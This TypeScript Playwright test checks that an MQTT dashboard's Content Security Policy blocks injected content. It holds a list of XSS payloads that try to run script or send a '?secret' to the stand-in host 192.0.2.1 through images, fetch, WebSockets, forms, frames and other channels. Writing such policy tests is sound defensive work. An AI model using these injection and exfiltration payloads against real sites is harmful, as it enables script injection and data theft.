import type { Page } from 'playwright-core'
import t from 'tap'
import { connectMqtt, eventually, startHub } from '../harness.js'
import { openDashboard } from './open-dashboard.js'

/** What the browser has kept from happening, by the directive that says so. */
const violations = (page: Page) => page.evaluate<string[]>('window.violations')

const collect = `window.violations = []
addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
  window.violations.push(effectiveDirective + ' ' + blockedURI))`

t.test('the page stays within its policy, with a chart open; what others put into it does nothing', async t => {
  const hub = await startHub(t)
  const device = await connectMqtt(t, hub.mqttUrl, { clientId: 't1' })
  await device.publishAsync('home/kitchen/t1/telemetry', '{"temperature":21.5}', { qos: 1 })
  const { page, problems } = await openDashboard(t, 'about:blank')
  await page.addInitScript(collect)
  await page.goto(`${hub.httpUrl}/#values`)
  await page.locator('.tile').first().click()
  await eventually(async () => Number(await page.locator('#chart').getAttribute('data-points')) > 0, 'a chart')
  t.ok(((await page.locator('.u-wrap').boundingBox())?.width ?? 0) > 100, 'it has its size, which is set as a style')
  t.same(await violations(page), [])
  t.same(
    problems.filter(problem => !problem.startsWith('left the origin')),
    [],
  )

  for (const [name, script, directive] of [
    [
      'a script',
      `document.body.append(Object.assign(document.createElement('script'), { textContent: 'window.ran = 1' }))`,
      'script-src',
    ],
    [
      'a handler',
      `document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="window.ran = 1">')`,
      'script-src',
    ],
    ['a link', `Object.assign(document.createElement('a'), { href: 'javascript:window.ran=1' }).click()`, 'script-src'],
    [
      'a script of another site',
      `document.body.append(Object.assign(document.createElement('script'), { src: 'http://192.0.2.1/x.js' }))`,
      'script-src',
    ],
    ['a picture that tells another site', `new Image().src = 'http://192.0.2.1/?secret'`, 'img-src'],
    ['a request to another site', `fetch('http://192.0.2.1/?secret').catch(() => {})`, 'connect-src'],
    ['a socket to another site', `try { new WebSocket('ws://192.0.2.1/') } catch {}`, 'connect-src'],
    [
      'a form to another site',
      `{ const form = Object.assign(document.createElement('form'), { action: 'http://192.0.2.1/', method: 'post' }); document.body.append(form); form.submit() }`,
      'form-action',
    ],
    [
      'another base',
      `document.head.append(Object.assign(document.createElement('base'), { href: 'http://192.0.2.1/' }))`,
      'base-uri',
    ],
    [
      'a style',
      `document.body.insertAdjacentHTML('beforeend', '<p style="background: url(http://192.0.2.1/)">')`,
      'style-src',
    ],
    [
      'a frame',
      `document.body.append(Object.assign(document.createElement('iframe'), { src: 'http://192.0.2.1/' }))`,
      'frame-src',
    ],
    [
      'an object',
      `document.body.append(Object.assign(document.createElement('object'), { data: 'http://192.0.2.1/' }))`,
      'object-src',
    ],
  ] as const) {
    await page.evaluate('window.violations.length = 0')
    await page.evaluate(`{ ${script} }; undefined`)
    await eventually(async () => (await violations(page)).some(one => one.startsWith(directive)), `${name} is refused`)
    t.equal(await page.evaluate('window.ran'), undefined, name)
  }
})
